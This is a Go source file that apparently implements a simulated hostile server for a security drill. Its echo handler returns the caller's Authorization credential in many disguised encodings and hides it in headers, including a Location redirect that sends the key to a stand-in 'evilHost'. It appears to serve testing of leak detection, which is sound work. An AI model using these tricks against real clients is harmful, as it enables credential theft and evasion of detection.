package drill

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"

	"github.com/andybalholm/brotli"
)

// echo gives back what came, as the query says: "as" a disguise, "in" a place of the
// answer, with a status, or a piece of it. A hostile host does as the job wants.
func (l *listener) echo(w http.ResponseWriter, r *http.Request, body []byte) {
	q := r.URL.Query()
	if r.URL.RawQuery == "" || q.Get("v") != "" {
		for name, values := range r.Header {
			w.Header()["X-Echo-"+name] = values
		}
	}
	if c := q.Get("cookie"); c != "" {
		w.Header().Set("Set-Cookie", c+"; Path=/; Secure")
	}
	var text bytes.Buffer
	_ = r.Write(&text)
	text.Write(body)
	out := text.String()
	if q.Get("value") != "" {
		out = credential(r)
	}
	if from, err := strconv.Atoi(q.Get("from")); err == nil {
		to, _ := strconv.Atoi(q.Get("to"))
		at := max(strings.Index(out, credential(r)), 0)
		from = min(at+from, len(out))
		out = out[from:max(from, min(at+to, len(out)))]
	}
	placed(w, q.Get("in"), credential(r))
	answer := disguised(w, q, out)
	if status, err := strconv.Atoi(q.Get("status")); err == nil && status >= http.StatusOK && status < 600 {
		w.WriteHeader(status)
	}
	for piece := range slices.Chunk(answer, pieceOf(q.Get("as"), len(answer))) {
		_, _ = w.Write(piece)
		_ = http.NewResponseController(w).Flush()
	}
	if q.Get("in") == "trailer" {
		w.Header().Set(http.TrailerPrefix+"X-Sum", credential(r))
	}
}

// credential is what a request brought in Authorization, without its scheme.
func credential(r *http.Request) string {
	_, value, _ := strings.Cut(r.Header.Get("Authorization"), " ")
	return value
}

func pieceOf(as string, n int) int {
	if as == "bytes" {
		return 1
	}
	return max(n, 1)
}

// placed puts a credential into the head of an answer.
func placed(w http.ResponseWriter, in, value string) {
	h := w.Header()
	switch in {
	case "early":
		h.Set("Link", "</"+value+">; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
	case "location":
		h.Set("Location", "https://"+evilHost+"/?key="+value)
	case "cookie":
		h.Set("Set-Cookie", "key="+value+"; Path=/")
	case "realm":
		h.Set("WWW-Authenticate", `Bearer realm="`+value+`"`)
	case "name":
		h["X-"+value] = []string{"1"}
	}
}

// disguised writes a text as the query says.
func disguised(w http.ResponseWriter, q url.Values, text string) []byte {
	switch q.Get("as") {
	case "base64":
		return []byte(base64.StdEncoding.EncodeToString([]byte(text)))
	case "hex":
		return []byte(hex.EncodeToString([]byte(text)))
	case "dump":
		return []byte(hex.Dump([]byte(text)))
	case "json":
		var out strings.Builder
		for _, c := range []byte(text) {
			fmt.Fprintf(&out, `\u00%02x`, c)
		}
		return []byte(`{"text":"` + out.String() + `"}`)
	case "html":
		var out strings.Builder
		for _, c := range []byte(text) {
			fmt.Fprintf(&out, "&#%d;", c)
		}
		return []byte(out.String() + html.EscapeString(text))
	case "percent":
		return []byte(url.QueryEscape(text))
	case "upper":
		return []byte(strings.ToUpper(text))
	case "reversed":
		return backwards([]byte(text))
	case "lines":
		return []byte(strings.ReplaceAll(text, "live_", "live_\n"))
	case "utf16":
		return []byte(strings.Join(strings.Split(text, ""), "\x00"))
	case "events":
		data, _ := json.Marshal(text)
		return fmt.Appendf(nil, "event: echo\ndata: %s\n\n: %s\n\n", data, strings.ReplaceAll(text, "\r\n", " "))
	case "gzip", "gzip2", "br":
		return coded(w, q.Get("as"), text)
	}
	if q.Get("gzip") != "" {
		return coded(w, "gzip", text)
	}
	return []byte(text)
}

// coded packs a text, and says so.
func coded(w http.ResponseWriter, as, text string) []byte {
	var out bytes.Buffer
	if as == "br" {
		w.Header().Set("Content-Encoding", "br")
		b := brotli.NewWriter(&out)
		_, _ = io.WriteString(b, text)
		_ = b.Close()
		return out.Bytes()
	}
	w.Header().Add("Content-Encoding", "gzip")
	z := gzip.NewWriter(&out)
	_, _ = io.WriteString(z, text)
	_ = z.Close()
	if as == "gzip2" {
		return coded(w, "gzip", out.String())
	}
	return out.Bytes()
}
